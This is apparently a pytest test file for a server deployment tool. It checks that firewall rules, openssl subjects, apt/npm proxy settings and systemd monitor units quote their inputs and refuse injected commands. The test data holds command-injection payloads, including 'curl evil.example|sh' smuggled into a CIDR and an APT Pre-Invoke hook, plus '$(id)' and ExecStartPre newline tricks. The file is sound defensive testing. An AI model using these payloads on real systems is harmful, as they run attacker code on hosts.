"""Every shell operation that takes data: the command strings it yields, quoted, and the data it
refuses at the boundary even when the preflight was bypassed (issue 13, part 2).

The preflight refuses hostile values first, and every task reads its host's HostConfig, which
refuses them again (wsready/hostdata/); these tests hand the tasks such values directly, as a
future caller that forgets the preflight would, and the writers values that bypassed
HostConfig's checks (dataclasses.replace).
"""

from __future__ import annotations

import shlex
from dataclasses import replace

import fakehost
import pytest
from pyinfra.api.exceptions import DeployError
from test_web_operations import _installed  # a Debian host with fresh apt lists

from tasks.firewall import configure_firewall
from tasks.monitor import install_monitor, unit_context
from tasks.proxy import configure_proxy
from wsready.deploy.firewall_rules import nftables_ruleset
from wsready.deploy.nginx_config import SELF_SIGNED_CERT, SELF_SIGNED_KEY
from wsready.deploy.operations.tls import _single_quoted
from wsready.deploy.proxy_conf import apt_proxy_conf, download_proxy, npmrc
from wsready.hostdata import HostConfig
from wsready.validate import ConfigError

HOSTILE_CIDR = "fe80::%x;curl -s evil.example|sh;/128"
HOSTILE_PROXY = 'http://p.example:3128/";APT::Update::Pre-Invoke{"curl evil.example|sh";};//'
DEBIAN_UFW = {
    **_installed("ufw", "0.36.2-1"),
    "firewall.UfwState": {"enabled": True, "input_policy": "DROP", "rules": set()},
}


def _commands(deploy, facts: dict, **data) -> list:
    return fakehost.commands(fakehost.run(deploy, facts, data))


def test_ufw_commands_name_each_source_as_one_word() -> None:
    commands = _commands(
        configure_firewall,
        DEBIAN_UFW,
        firewall_ssh_cidrs=["2001:db8::/32", "198.51.100.7"],
        firewall_allow_cidrs=["203.0.113.0/24"],
    )
    ufw = [c for c in commands if isinstance(c, str) and c.startswith("ufw allow")]
    assert ufw == [
        "ufw allow proto tcp from 2001:db8::/32 to any port 22",
        "ufw allow proto tcp from 198.51.100.7 to any port 22",
        "ufw allow proto tcp from 203.0.113.0/24 to any port 80",
    ]
    for command in ufw:
        assert shlex.split(command)[4] == command.split()[4]  # the source is one shell word


@pytest.mark.parametrize("key", ["firewall_ssh_cidrs", "firewall_allow_cidrs"])
def test_ufw_refuses_a_hostile_source_before_any_command(key: str) -> None:
    with pytest.raises(ConfigError, match=rf"{key}\[0\] = .*: must be a CIDR"):
        _commands(configure_firewall, DEBIAN_UFW, **{key: [HOSTILE_CIDR]})


@pytest.mark.parametrize("key", ["firewall_ssh_cidrs", "firewall_allow_cidrs"])
def test_firewall_writers_refuse_a_hostile_source_that_bypassed_the_contract(key: str) -> None:
    hostile = replace(HostConfig.from_data(fakehost.HOST, {}), **{key: (HOSTILE_CIDR,)})
    with pytest.raises(ConfigError, match="firewall rule source"):
        nftables_ruleset(hostile)


def test_openssl_subject_is_single_quoted_whatever_the_address() -> None:
    hostile = "a';touch /tmp/wsready-pwned;'"
    quoted = _single_quoted("/CN=" + hostile)
    assert shlex.split(f"openssl req -subj {quoted}") == [
        "openssl",
        "req",
        "-subj",
        "/CN=" + hostile,
    ]


def test_openssl_command_for_an_ipv6_verify_address() -> None:
    from test_web_operations import _nginx_converged_facts, configure_nginx  # same host

    facts = _nginx_converged_facts(nginx_tls=True, verify_address="2001:db8::7")
    commands = _commands(configure_nginx, facts, nginx_tls=True, verify_address="2001:db8::7")
    (openssl,) = [c for c in commands if isinstance(c, str) and "openssl req" in c]
    assert "-subj '/CN=2001:db8::7' -addext 'subjectAltName=IP:2001:db8::7' " in openssl
    assert f"-keyout {SELF_SIGNED_KEY} -out {SELF_SIGNED_CERT}" in openssl


@pytest.mark.parametrize("render", [apt_proxy_conf, npmrc], ids=["apt.conf", "npmrc"])
def test_proxy_config_renderers_refuse_what_the_format_would_parse(render) -> None:
    for value in (
        HOSTILE_PROXY,
        "http://p.example:3128\nproxy=http://evil.example",
        "http://p.example:3128 x",
    ):
        with pytest.raises(ConfigError, match="proxy_url"):
            render(value)


def test_configure_proxy_with_a_hostile_proxy_yields_nothing() -> None:
    with pytest.raises(ConfigError, match="proxy_url"):
        _commands(
            configure_proxy,
            fakehost.DEBIAN12,
            proxy_url=HOSTILE_PROXY,
        )


def test_files_download_gets_only_a_proxy_that_needs_no_quoting() -> None:
    assert download_proxy(None) is None
    assert download_proxy("http://10.200.4.1:8888") == "http://10.200.4.1:8888"
    for value in (HOSTILE_PROXY, "http://p.example:3128/$(id)", "http://p.example:3128 -o /x"):
        with pytest.raises(ConfigError, match="proxy_url"):
            download_proxy(value)


def test_monitor_pip_proxy_is_one_quoted_word() -> None:
    groups = {"monitors": (["mon-1"], {})}
    results = fakehost.run(
        install_monitor,
        {
            **fakehost.DEBIAN12,
            "server.Which": {"useradd": "/usr/sbin/useradd"},
            "server.Os": "Linux",
        },
        {"proxy_url": "http://10.200.1.1:8888"},
        name="mon-1",
        others=[("web-1", {"ssh_hostname": "10.200.1.2"})],
        groups=groups,
    )
    (pip,) = [
        c
        for c in fakehost.commands(results)
        if isinstance(c, str) and "pip install" in c and "--no-deps" not in c
    ]
    words = shlex.split(pip)
    assert words[words.index("--proxy") + 1] == "http://10.200.1.1:8888"


@pytest.mark.parametrize(
    "value",
    [
        "/var/lib/node_exporter/x.prom\nExecStartPre=+/bin/touch /tmp/pwned",
        "/var/lib/node_exporter/%h.prom",
        "/var/lib/node_exporter/$HOME.prom",
        "/var/lib/node_exporter/a b.prom",
    ],
)
def test_monitor_unit_values_are_one_literal_word(value: str) -> None:
    with pytest.raises(DeployError, match="prometheus_file"):
        unit_context({"prometheus_file": value, "extra_args": " --token-env X"})
    assert unit_context({"prometheus_file": "/var/lib/node_exporter/w.prom", "extra_args": ""})


def test_monitor_token_with_a_newline_is_refused_unechoed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPS_TOKEN", "tok-123\nWSREADY_MONITOR_WEBHOOK=http://evil.example")
    with pytest.raises(DeployError) as caught:
        fakehost.run(
            install_monitor,
            {**fakehost.DEBIAN12, "server.Os": "Linux"},
            {"monitor_token_env": "OPS_TOKEN"},
            name="mon-1",
            others=[("web-1", {"ssh_hostname": "10.200.1.2"})],
            groups={"monitors": (["mon-1"], {})},
        )
    assert "tok-123" not in str(caught.value) and "<hidden>" in str(caught.value)
